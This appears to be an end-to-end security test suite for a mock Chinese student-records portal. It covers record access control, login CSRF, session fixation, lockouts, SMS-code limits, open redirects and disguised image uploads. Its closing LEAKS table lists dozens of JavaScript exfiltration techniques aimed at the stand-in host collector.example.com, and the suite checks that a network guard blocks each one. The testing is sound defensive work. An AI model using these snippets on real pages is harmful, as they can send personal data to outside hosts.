"""The mock behaves as a site holding students' identities must: no peeking, no guessing, no lingering sessions."""

from __future__ import annotations

import re
import time
from collections.abc import Callable
from dataclasses import replace

import pytest
from playwright.sync_api import BrowserContext, Error, Locator, Page, Request

from e2e.flows import (
    activate,
    confirm_phone,
    enter_real_name,
    file_review,
    log_in,
    open_activation_mail,
    reach_phone_step,
    sign_up,
)
from e2e.pages.archive import RecordsPage
from e2e.pages.devices import Phone, Webmail
from e2e.pages.portal import ArchiveHomePage, LoginPage
from e2e.pages.recovery import AccountReviewPage, AccountReviewStatusPage, FindPasswordPage, FindUsernamePage
from e2e.pages.registration import ConfirmPage, DonePage, PhoneConfirmPage, RealNamePage
from fixtures.images import graduate_photo, id_card_uploads
from fixtures.personas import Persona, make_persona
from fixtures.students import Given
from harness.actions import click, fill
from harness.checks import expect
from harness.clock import SharedClock
from mock_server import Site, url_for, urls
from mock_server.hosts.account import REVIEW_PHOTOS, TGC_COOKIE
from mock_server.hosts.my import SESSION_COOKIE
from mock_server.messages import say
from mock_server.services.accounts import Account, Status, digest
from mock_server.services.mail import masked
from mock_server.services.records import PhotoCheck
from mock_server.services.throttle import locked_message
from mock_server.words import label
from tests.hostile_pictures import TRAILING, other_format_as_jpg, progressive_jpeg

pytestmark = pytest.mark.security

NewContext = Callable[..., BrowserContext]


@pytest.fixture
def classmate(given: Given, persona: Persona) -> Persona:
    """Another student of the same school (nothing in common with this test's), enrolled, registered, with a ticket."""
    other = given.classmate(persona)
    given.review_filed(other, keep=other.email)
    return other


# What the logout address shows to a GET (a link or an image on any page): a question, no more.
LOGOUT = f"{urls.ACCOUNT}/passport/logout"


def asked_to_log_out(page: Page) -> Locator:
    """The heading of the page that asks whether to 退出."""
    return page.get_by_role("heading", name=say("logout.heading"), exact=True)


def set_own_password(page: Page, password: str) -> None:
    """设置登录密码 (an activation link followed outside the browser that signed up): the password twice, on."""
    expect(page.get_by_role("heading", name=say("activation.password_heading"), exact=True)).to_be_visible()
    expect(page.locator("#activation-password-notice")).to_have_text(say("activation.password_notice"))
    fill(page.get_by_label(label("password"), exact=True), password)
    fill(page.get_by_label(label("password_again"), exact=True), password)
    click(page.get_by_role("button", name=say("activation.password_button"), exact=True))


def review_due(site: Site, number: str) -> str:
    """The day a filed review is due, as the back office has it."""
    return next(t.due.isoformat() for t in site.back_office.tickets() if t.number == number)


@pytest.fixture
def stranger(site: Site, seed: int) -> Persona:
    """Someone with no account and no 学籍, sharing nothing with the test's student."""
    return make_persona(seed + 1_000, site.state.clock.now().date())


def test_records_page_shows_only_the_logged_in_students_record(
    page: Page, student: Persona, classmate: Persona
) -> None:
    """在学籍网址上加别人的身份证号或姓名，仍只显示本人的学籍"""
    log_in(page, student.email, student.password)
    page.goto(url_for("records_page", sfzh=classmate.id_number, xm=classmate.name, id="1"))
    expect(RecordsPage(page).info).to_contain_text(student.name)
    expect(page.get_by_text(classmate.id_number)).to_have_count(0)
    expect(page.get_by_text(classmate.name, exact=True)).to_have_count(0)


def test_the_photo_address_serves_only_the_students_own_photo(page: Page, student: Persona, classmate: Persona) -> None:
    """照片地址加上别人的身份证号或姓名，返回的仍是本人的毕业照片"""
    log_in(page, student.email, student.password)
    address = url_for("photo", sfzh=classmate.id_number, xm=classmate.name)
    shown = page.evaluate(
        "async (address) => Array.from(new Uint8Array(await (await fetch(address)).arrayBuffer()))", address
    )
    assert bytes(shown) == graduate_photo(student)


def test_changing_the_ticket_number_does_not_show_anothers_ticket(
    page: Page, site: Site, student: Persona, classmate: Persona
) -> None:
    """受理编号是连续的：换成下一个编号（配本人身份证号）查不到别人的申请"""
    review = file_review(page, student)  # one account is enough to ask for a review
    mine = review.number.inner_text()
    theirs = site.back_office.tickets(classmate.id_number)[0].number
    status = AccountReviewStatusPage(page).open_for(theirs, student.id_number)
    expect(page.get_by_role("alert")).to_have_text(say("review.no_match"))
    expect(status.status).to_have_count(0)
    status.open_for(mine, student.id_number)
    due = review_due(site, mine)
    expect(status.status).to_have_text(say("review.pending", days=site.state.profile.working_days, due=due))


def test_reset_links_are_long_random_and_one_character_off_is_refused(
    page: Page, context: BrowserContext, student: Persona
) -> None:
    """两封重置邮件的链接不同且至少 32 位随机字符；错一个字符的链接被拒绝"""
    mailbox = Webmail(context.new_page())
    links = []
    for _ in range(2):
        page.goto(url_for("find_password"))
        FindPasswordPage(page).send(student.email)
        mailbox.open_inbox(student.email).open_mail(label("reset_subject"))
        links.append(mailbox.link_address())
    tokens = [link.rsplit("token=", 1)[1] for link in links]
    assert tokens[0] != tokens[1] and all(re.fullmatch(r"[\w-]{32,}", token) for token in tokens)
    page.goto(links[1][:-1] + ("B" if links[1].endswith("A") else "A"))
    expect(page.get_by_role("alert")).to_have_text(say("reset.invalid"))


def test_login_issues_a_new_session_and_a_planted_one_grants_nothing(
    page: Page, context: BrowserContext, student: Persona
) -> None:
    """登录前预先放进浏览器的会话号被换掉，之后也打不开任何页面"""
    planted = "0" * 32
    context.add_cookies([{"name": TGC_COOKIE, "value": planted, "url": urls.ACCOUNT}])
    log_in(page, student.email, student.password)
    issued = next(c["value"] for c in context.cookies(urls.ACCOUNT) if c["name"] == TGC_COOKIE)
    assert issued != planted and len(issued) >= 32
    context.clear_cookies()
    context.add_cookies([
        {"name": TGC_COOKIE, "value": planted, "url": urls.ACCOUNT},
        {"name": SESSION_COOKIE, "value": planted, "url": urls.MY},
    ])  # fmt: skip
    page.goto(url_for("archive_home"))
    expect(LoginPage(page).heading).to_be_visible()


def test_logout_ends_the_archive_session_and_back_shows_nothing(page: Page, student: Persona) -> None:
    """退出后再进学信档案需要重新登录；按浏览器的“后退”也看不到退出前的页面"""
    log_in(page, student.email, student.password)
    ArchiveHomePage(page).log_out()
    expect(LoginPage(page).heading).to_be_visible()
    page.go_back()
    expect(ArchiveHomePage(page).welcome).to_have_count(0)
    page.goto(url_for("archive_home"))
    expect(LoginPage(page).heading).to_be_visible()
    expect(ArchiveHomePage(page).welcome).to_have_count(0)


def test_a_link_on_another_page_cannot_log_the_student_out(page: Page, student: Persona) -> None:
    """别的网页上的退出链接或图片只会让站点询问，不会让学生退出；只有学信档案菜单里的“退出”才退出"""
    log_in(page, student.email, student.password)
    page.set_content(f'<img src="{LOGOUT}" alt=""><a href="{LOGOUT}">x</a>')
    page.get_by_role("link").click()
    expect(asked_to_log_out(page)).to_be_visible()
    page.goto(url_for("archive_home"))
    expect(ArchiveHomePage(page).welcome).to_be_visible()
    ArchiveHomePage(page).log_out()
    expect(LoginPage(page).heading).to_be_visible()


def test_a_foreign_form_cannot_sign_the_student_in_as_someone_else(
    page: Page, new_context: NewContext, student: Persona, classmate: Persona
) -> None:
    """登录 CSRF：别的网页自动提交的登录表单（带着攻击者在自己浏览器里取得的 lt）不能让学生以别人的身份登录"""
    attacker = new_context().new_page()
    LoginPage(attacker).open()
    lt = attacker.locator("input[name=lt]").get_attribute("value")
    page.set_content(
        f'<form method="post" action="{urls.LOGIN}"><input name="username" value="{classmate.email}">'
        f'<input name="password" value="{classmate.password}"><input name="lt" value="{lt}"></form>'
    )
    page.locator("form").evaluate("form => form.submit()")
    expect(LoginPage(page).status).to_have_text(say("login.form_expired"))
    page.goto(url_for("archive_home"))
    expect(LoginPage(page).heading).to_be_visible()


def test_a_login_form_without_its_lt_or_with_a_used_one_is_refused(page: Page, student: Persona) -> None:
    """登录表单的 lt 必须有、只能用一次：去掉它或换成用过的都被拒绝；重新填写即可登录"""
    login = LoginPage(page).open()
    page.locator("input[name=lt]").evaluate("field => field.remove()")
    login.log_in(student.email, student.password)
    expect(login.status).to_have_text(say("login.form_expired"))
    used = page.locator("input[name=lt]").get_attribute("value")
    login.log_in(student.email, student.password)
    expect(ArchiveHomePage(page).welcome).to_be_visible()
    login.open()
    page.locator("input[name=lt]").evaluate("(field, used) => { field.value = used; }", used)
    login.log_in(student.email, student.password)
    expect(login.status).to_have_text(say("login.form_expired"))


def test_an_unused_service_ticket_opens_nothing_a_day_later(
    page: Page, new_context: NewContext, student: Persona, clock: SharedClock
) -> None:
    """没用过的登录票据（ST-）会过期：一天后拿它打开学信档案只会看到登录页"""
    other = new_context().new_page()
    other.route(f"{urls.SERVICE}*", lambda route: route.abort())  # the ticket is taken, never traded
    with other.expect_request(lambda r: r.url.startswith(urls.SERVICE)) as traded:
        LoginPage(other).open().log_in(student.email, student.password)
    clock.advance(days=1)
    page.goto(traded.value.url)
    expect(LoginPage(page).heading).to_be_visible()
    expect(page.get_by_text(student.id_number)).to_have_count(0)


def test_an_idle_archive_session_ends_after_30_minutes(page: Page, student: Persona, clock: SharedClock) -> None:
    """学信档案闲置超过 30 分钟就要重新登录，身份证号不再显示"""
    log_in(page, student.email, student.password)
    records = RecordsPage(page)
    clock.advance(minutes=29)
    records.open_from_menu()
    expect(records.info).to_contain_text(student.id_number)
    clock.advance(minutes=31)
    page.reload()
    expect(LoginPage(page).heading).to_be_visible()
    expect(page.get_by_text(student.id_number)).to_have_count(0)


def test_a_head_request_uses_up_no_activation_link(page: Page, site: Site, persona: Persona) -> None:
    """HEAD 请求（如邮件扫描器先探一下链接）得到 405，不会用掉激活链接：学生随后点击照样进入实名注册"""
    sign_up(page, persona)
    mailbox = open_activation_mail(page, persona)
    link = mailbox.link_address()
    status = page.evaluate("(link) => fetch(link, {method: 'HEAD', mode: 'no-cors'}).then(r => r.type)", link)
    assert status == "opaque"
    assert len(site.state.problems) == 1 and f" HEAD {link}" in site.state.problems[0]
    site.state.problems.clear()  # the refused HEAD was this test's doing
    click(mailbox.link)
    expect(RealNamePage(page).heading).to_be_visible()


def test_plain_http_is_sent_to_https_before_any_password_field_shows(page: Page) -> None:
    """用 http:// 打开登录或找回密码页面会被转到 https://，密码表单只在 https 上出现"""
    for name in ("login", "find_password"):
        page.goto(url_for(name).replace("https://", "http://", 1))
        expect(page).to_have_url(re.compile(f"^{re.escape(url_for(name))}"))
    expect(FindPasswordPage(page).heading).to_be_visible()


def test_five_wrong_passwords_lock_the_login_for_30_minutes(page: Page, student: Persona, clock: SharedClock) -> None:
    """连续第 5 次输错密码锁定帐号；30 分钟内连正确密码也被拒绝"""
    login = LoginPage(page).open()
    for _ in range(4):
        login.log_in(student.email, student.password + "x")
        expect(login.status).to_have_text(say("login.wrong"))
    login.log_in(student.email, student.password + "x")
    expect(login.status).to_have_text(locked_message())
    login.log_in(student.email, student.password)
    expect(login.status).to_have_text(locked_message())
    clock.advance(minutes=30)
    login.log_in(student.email, student.password)
    expect(ArchiveHomePage(page).welcome).to_be_visible()


def test_the_wrong_password_count_starts_again_only_after_a_right_password_or_the_lock(
    page: Page, student: Persona, classmate: Persona
) -> None:
    """密码错误次数只在输对密码或锁定期满后重新计算：空白表单、申请重置邮件、在同一浏览器登录别的帐号都不清零"""
    login = LoginPage(page).open()
    for _ in range(4):
        login.log_in(student.email, student.password + "x")
    login.log_in(student.email, "")
    expect(login.status).to_have_text(say("login.blank"))
    page.goto(url_for("find_password"))
    FindPasswordPage(page).send(student.email)
    log_in(page, classmate.email, classmate.password)
    ArchiveHomePage(page).log_out()
    login.log_in(student.email, student.password + "x")
    expect(login.status).to_have_text(locked_message())


def test_blank_login_forms_sign_no_one_in_and_lock_no_one_out(page: Page, student: Persona) -> None:
    """空白的用户名或密码不会登录任何帐号；连续提交空白表单也不会锁定任何人"""
    login = LoginPage(page).open()
    for _ in range(6):
        login.log_in("", student.password)
        expect(login.status).to_have_text(say("login.blank"))
    login.log_in(student.email, "")
    expect(login.status).to_have_text(say("login.blank"))
    login.log_in(student.email, student.password)
    expect(ArchiveHomePage(page).welcome).to_be_visible()


def test_sms_codes_beyond_five_a_day_are_refused(page: Page, persona: Persona, clock: SharedClock) -> None:
    """24 小时内第 6 条校验码被拒绝（用站点原话）；第二天重新登录后可以再发"""
    form = reach_phone_step(page, persona)
    for _ in range(5):
        form.request_code(persona.phone)
        expect(form.sms_status).to_have_text(say("sms.sent", phone=persona.phone))
        clock.advance(seconds=61)
    form.request_code(persona.phone)
    expect(form.sms_status).to_have_text(say("sms.daily_limit"))
    clock.advance(hours=24)
    LoginPage(page).open().log_in(persona.email, persona.password)  # the registration left idle a day is over
    form.request_code(persona.phone)
    expect(form.sms_status).to_have_text(say("sms.sent", phone=persona.phone))


def test_five_wrong_codes_void_the_sms_code(page: Page, context: BrowserContext, persona: Persona) -> None:
    """输错 5 次校验码后，连正确的也被拒绝：6 位数字不能靠试"""
    form = reach_phone_step(page, persona)
    form.request_code(persona.phone)
    code = Phone(context.new_page()).open(persona.phone).latest_code()
    wrong = f"{(int(code) + 1) % 10**6:06d}"
    for _ in range(5):
        form.enter_code(wrong)
        expect(form.errors).to_have_text(say("code.wrong"))
    form.enter_code(code)
    expect(form.errors).to_have_text(say("code.too_many"))


def test_one_sms_code_confirms_one_registration_once(
    page: Page, context: BrowserContext, new_context: NewContext, persona: Persona, stranger: Persona
) -> None:
    """同一条短信校验码只确认一个帐号一次：另一个注册拿它确认同一手机号被拒绝"""
    form = reach_phone_step(page, persona)
    form.request_code(persona.phone)
    code = Phone(context.new_page()).open(persona.phone).latest_code()
    form.enter_code(code)
    expect(ConfirmPage(page).heading).to_be_visible()
    other = reach_phone_step(new_context().new_page(), stranger)
    other.phone.fill(persona.phone)
    other.enter_code(code)
    expect(other.errors).to_have_text(say("code.wrong"))


def test_a_code_sent_to_one_phone_confirms_no_other(page: Page, context: BrowserContext, persona: Persona) -> None:
    """发到一个手机的校验码不能确认另一个手机号"""
    form = reach_phone_step(page, persona)
    form.request_code(persona.phone)
    code = Phone(context.new_page()).open(persona.phone).latest_code()
    other_phone = "139" + persona.phone[3:] if not persona.phone.startswith("139") else "138" + persona.phone[3:]
    form.phone.fill(other_phone)
    form.enter_code(code)
    expect(form.errors).to_have_text(say("code.wrong"))
    expect(PhoneConfirmPage(page).heading).to_be_visible()


def test_registration_steps_cannot_be_skipped_or_gone_back_to(page: Page, persona: Persona) -> None:
    """注册步骤不能跳过也不能回头：实名注册时打开手机确认、确认页或直接提交“是”都回到实名注册；之后再打开实名注册只会回到手机确认"""
    activate(page, persona)
    for later in ("phone_page", "confirm"):
        page.goto(url_for(later))
        expect(RealNamePage(page).heading).to_be_visible()
    page.evaluate("(finish) => fetch(finish, {method: 'POST'})", url_for("finish"))
    page.reload()
    expect(RealNamePage(page).heading).to_be_visible()
    enter_real_name(page, persona)
    page.goto(url_for("real_name"))
    expect(PhoneConfirmPage(page).heading).to_be_visible()


def test_an_email_squatter_keeps_nothing_once_the_owner_activates(
    page: Page, context: BrowserContext, new_context: NewContext, site: Site, given: Given, persona: Persona
) -> None:
    """抢注邮箱：陌生人先用学生的邮箱和自己的密码注册；学生点激活链接时设置自己的密码并完成注册，陌生人的密码再也登录不了"""
    given.enrolled(persona)
    squatter = replace(persona, password="Squat2012x")
    stranger_page = new_context().new_page()
    sign_up(stranger_page, squatter)
    click(open_activation_mail(page, persona).link)
    set_own_password(page, persona.password)
    enter_real_name(page, persona)
    confirm_phone(page, context.new_page(), persona)
    confirm = ConfirmPage(page)
    confirm.confirm()
    confirm.answer_yes()
    expect(DonePage(page).heading).to_be_visible()
    login = LoginPage(stranger_page).open()
    login.log_in(persona.email, squatter.password)
    expect(login.status).to_have_text(say("login.wrong"))
    log_in(page, persona.email, persona.password)
    assert site.state.accounts.get(persona.email) is not None


def test_find_username_gives_strangers_one_answer_and_few_guesses(
    page: Page, student: Persona, stranger: Persona, clock: SharedClock
) -> None:
    """找回用户名：没有帐号的身份证号和姓名不符得到同一句话；同一身份证号猜错 5 次后暂停 30 分钟"""
    finder = FindUsernamePage(page)
    page.goto(url_for("find_username"))
    finder.find(stranger.id_number, stranger.name)
    expect(finder.errors).to_have_text(say("recovery.no_match"))
    guesses = [stranger.name, student.name + stranger.name[0], stranger.name[0] + student.name, student.name[:-1],
               student.name * 2]  # fmt: skip
    for guess in guesses:
        finder.find(student.id_number, guess)
        expect(finder.errors).to_have_text(say("recovery.no_match"))
    finder.find(student.id_number, student.name)
    expect(finder.errors).to_have_text(say("recovery.too_many", minutes=30))
    clock.advance(minutes=30)
    finder.find(student.id_number, student.name)
    expect(finder.usernames).to_have_text([student.email])


@pytest.mark.site_profile("current")
def test_find_password_by_phone_shows_the_mailbox_masked(page: Page, site: Site, persona: Persona) -> None:
    """今天的学信网：用手机号找回密码，页面只显示打了码的邮箱（如 x****@qq.com）"""
    site.state.accounts.add(
        Account(persona.email, digest(persona.password), site.state.clock.now(), Status.REGISTERED, persona.name,
                persona.id_number, persona.birth_date, persona.sex, persona.province, persona.phone, by_phone=True)
    )  # fmt: skip
    forgot = FindPasswordPage(page)
    page.goto(url_for("find_password"))
    page.locator("#captcha").fill(site.state.captcha.answer)
    forgot.send(persona.phone)
    expect(forgot.notice).to_contain_text(masked(persona.email))
    expect(forgot.notice).not_to_contain_text(persona.email)


def test_a_review_with_a_blank_or_missing_name_and_id_is_refused(
    page: Page, site: Site, given: Given, student: Persona, stranger: Persona
) -> None:
    """帐号审核申请：姓名和身份证号留空或根本不提交，得到中文提示而不是服务器错误，不生成申请，不停用任何帐号"""
    newcomer = given.half_registered(stranger)
    review = AccountReviewPage(page).open()
    review.submit("", "", newcomer.email, **id_card_uploads(student))
    expect(review.errors).to_contain_text(say("review.name_missing"))
    status = page.evaluate(
        "(keep) => { const form = new FormData(); form.append('keep', keep);"
        " return fetch('/account/review.action', {method: 'POST', body: form}).then(r => r.status); }",
        newcomer.email,
    )
    assert status == 200
    assert site.back_office.tickets() == [] and newcomer.status is Status.PENDING_REAL_NAME


def test_only_whoever_knows_the_name_on_an_id_may_ask_to_review_its_accounts(
    page: Page, site: Site, given: Given, student: Persona, classmate: Persona, stranger: Persona
) -> None:
    """申请帐号审核：别人的姓名配本人身份证号、要保留别人的帐号、或保留一个没用这个身份证号注册过的新帐号，都被拒绝"""
    newcomer = given.half_registered(stranger)
    review = AccountReviewPage(page).open()
    for name, keep, message in (
        (classmate.name, student.email, say("review.no_account")),
        (student.name, classmate.email, say("review.keep_invalid")),
        (student.name, newcomer.email, say("review.keep_invalid")),
    ):
        review.submit(name, student.id_number, keep, **id_card_uploads(student))
        expect(review.errors).to_have_text(message)
    assert site.back_office.tickets(student.id_number) == []


FRONT = label(REVIEW_PHOTOS["front"])
UPLOADS = {
    **{name: (file, say("upload.trailing_data", label=FRONT)) for name, file in TRAILING.items()},
    "pcx-named-jpg": (("zhengmian.jpg", other_format_as_jpg("PCX")), say("upload.not_image", label=FRONT)),
    "3000-scans": (("zhengmian.jpg", progressive_jpeg(3000)), say("upload.too_many_scans", label=FRONT, scans=3000)),
}  # fmt: skip


@pytest.mark.parametrize("case", list(UPLOADS))
def test_a_hostile_id_card_photo_is_refused_at_once(
    page: Page, site: Site, given: Given, student: Persona, case: str
) -> None:
    """伪装的身份证照片（结尾标记后藏着别的数据、改名的其他格式、上千层的渐进式 JPEG）几秒内被拒绝，不生成申请"""
    given.second_account(student)
    upload, message = UPLOADS[case]
    review = AccountReviewPage(page).open()
    started = time.monotonic()
    review.submit(student.name, student.id_number, student.email, front=upload, back=id_card_uploads(student)["back"])
    expect(review.errors).to_have_text(message)
    assert time.monotonic() - started < 5
    assert site.back_office.tickets() == []


def test_the_photo_check_cannot_be_answered_again_after_a_decision(page: Page, site: Site, student: Persona) -> None:
    """图像校对确认“正确”后按钮不再显示；直接打开“信息有误”地址或再提交都改变不了结果"""
    log_in(page, student.email, student.password)
    records = RecordsPage(page)
    records.open_from_menu()
    click(records.correct)
    expect(records.correct).to_be_hidden()
    page.goto(url_for("modify_photo"))
    expect(records.heading).to_be_visible()
    page.evaluate(
        "(modify) => { const form = new FormData(); form.append('reason', 'x');"
        " return fetch(modify, {method: 'POST', body: form}).then(r => r.status); }",
        url_for("modify_photo"),
    )
    record = site.back_office.record(student.name, student.id_number)
    assert record is not None and record.photo_check is PhotoCheck.CONFIRMED and record.reports == []


def test_login_never_sends_the_student_off_the_site(page: Page, site: Site, student: Persona) -> None:
    """登录链接的 service 指向别处时，登录后仍回到学信档案，票据不出学信网"""
    page.goto(url_for("login", service="https://chsi.example.net/steal"))
    LoginPage(page).log_in(student.email, student.password)
    expect(ArchiveHomePage(page).welcome).to_be_visible()
    expect(page).to_have_url(re.compile(r"^https://my\.chsi\.com\.cn/"))
    assert site.blocked == []


# Every way a page can reach out: a script's request, a subresource, a navigation, a new window.
LEAKS = {
    "fetch": "fetch('https://collector.example.com/p?sfzh=1').catch(() => null)",
    "image": "new Promise(done => { const i = new Image(); i.onerror = i.onload = done; i.src = 'https://collector.example.com/p.gif'; })",
    "redirect": "location.replace('https://collector.example.com/landing')",
    "popup": "void window.open('https://collector.example.com/popup')",
    "popup-noopener": "void window.open('https://collector.example.com/noopener', '_blank', 'noopener')",
    "xhr": "new Promise(done => { const x = new XMLHttpRequest(); x.onloadend = done; x.open('GET', 'https://collector.example.com/x'); x.send(); })",
    "xhr-sync": "(() => { const x = new XMLHttpRequest(); x.open('GET', 'https://collector.example.com/sync', false); try { x.send(); } catch (e) {} })()",
    "stylesheet": "void document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: 'https://collector.example.com/s.css'}))",
    "css-import": "void document.head.append(Object.assign(document.createElement('style'), {textContent: '@import url(https://collector.example.com/i.css);'}))",
    "css-background": "void (document.body.style.backgroundImage = 'url(https://collector.example.com/bg.png)')",
    "font": "void document.fonts.add(new FontFace('leak', 'url(https://collector.example.com/f.woff2)')).forEach(f => f.load().catch(() => null))",
    "script": "void document.head.append(Object.assign(document.createElement('script'), {src: 'https://collector.example.com/s.js'}))",
    "dynamic-import": "import('https://collector.example.com/m.js').catch(() => null)",
    "iframe": "void document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://collector.example.com/frame'}))",
    "iframe-srcdoc": "void document.body.append(Object.assign(document.createElement('iframe'), {srcdoc: '<img src=https://collector.example.com/srcdoc.png>'}))",
    "object": "void document.body.append(Object.assign(document.createElement('object'), {data: 'https://collector.example.com/obj'}))",
    "embed": "void document.body.append(Object.assign(document.createElement('embed'), {src: 'https://collector.example.com/emb'}))",
    "video": "void document.body.append(Object.assign(document.createElement('video'), {src: 'https://collector.example.com/v.mp4'}))",
    "audio": "void new Audio('https://collector.example.com/a.mp3').play().catch(() => null)",
    "svg-image": "void document.body.insertAdjacentHTML('beforeend', '<svg><image href=\"https://collector.example.com/svg.png\"/></svg>')",
    "srcset": "void document.body.insertAdjacentHTML('beforeend', '<img srcset=\"https://collector.example.com/srcset.png 1x\">')",
    "link-prefetch": "void document.head.append(Object.assign(document.createElement('link'), {rel: 'prefetch', href: 'https://collector.example.com/pf'}))",
    "link-preload": "void document.head.append(Object.assign(document.createElement('link'), {rel: 'preload', as: 'script', href: 'https://collector.example.com/pl.js'}))",
    "modulepreload": "void document.head.append(Object.assign(document.createElement('link'), {rel: 'modulepreload', href: 'https://collector.example.com/mp.js'}))",
    "base-href": "(() => { document.head.append(Object.assign(document.createElement('base'), {href: 'https://collector.example.com/'})); fetch('relative').catch(() => null); })()",
    "event-source": "void new EventSource('https://collector.example.com/es')",
    "form-post": "(() => { const f = Object.assign(document.createElement('form'), {method: 'post', action: 'https://collector.example.com/post'}); document.body.append(f); f.submit(); })()",
    "form-get": "(() => { const f = Object.assign(document.createElement('form'), {method: 'get', action: 'https://collector.example.com/get'}); document.body.append(f); f.submit(); })()",
    "beacon": "void navigator.sendBeacon('https://collector.example.com/beacon', 'sfzh=1')",
    "keepalive": "void fetch('https://collector.example.com/ka', {method: 'POST', body: 'sfzh=1', keepalive: true}).catch(() => null)",
    "ping": "(() => { const a = Object.assign(document.createElement('a'), {href: '/xlcx/', ping: 'https://collector.example.com/ping', target: '_blank'}); document.body.append(a); a.click(); })()",
    "download": "(() => { const a = Object.assign(document.createElement('a'), {href: 'https://collector.example.com/d.zip', download: 'd.zip'}); document.body.append(a); a.click(); })()",
    "meta-refresh": "void document.head.append(Object.assign(document.createElement('meta'), {httpEquiv: 'refresh', content: '0;url=https://collector.example.com/meta'}))",
}  # fmt: skip


def _run(page: Page, script: str) -> None:
    """Run `script` in the page; one that navigates the page away ends its own evaluation, which is fine here."""
    try:
        page.evaluate(script)
    except Error as gone:
        if "Execution context was destroyed" not in str(gone):
            raise


@pytest.mark.parametrize("kind", list(LEAKS))
def test_network_guard_blocks_and_names_every_way_out(
    page: Page, context: BrowserContext, site: Site, kind: str
) -> None:
    """页面用任何方式访问真实主机，请求都被中止并记下网址"""
    page.goto(f"{urls.WWW}/")

    def leaving(request: Request) -> bool:
        return "collector.example.com" in request.url

    with (
        site.expect_blocked("collector.example.com") as blocked,
        context.expect_event("requestfailed", leaving) as failed,
    ):
        _run(page, LEAKS[kind])
    assert (failed.value.failure or "").startswith("net::ERR_BLOCKED_BY_CLIENT")
    assert f"{failed.value.method} {failed.value.url}" in blocked
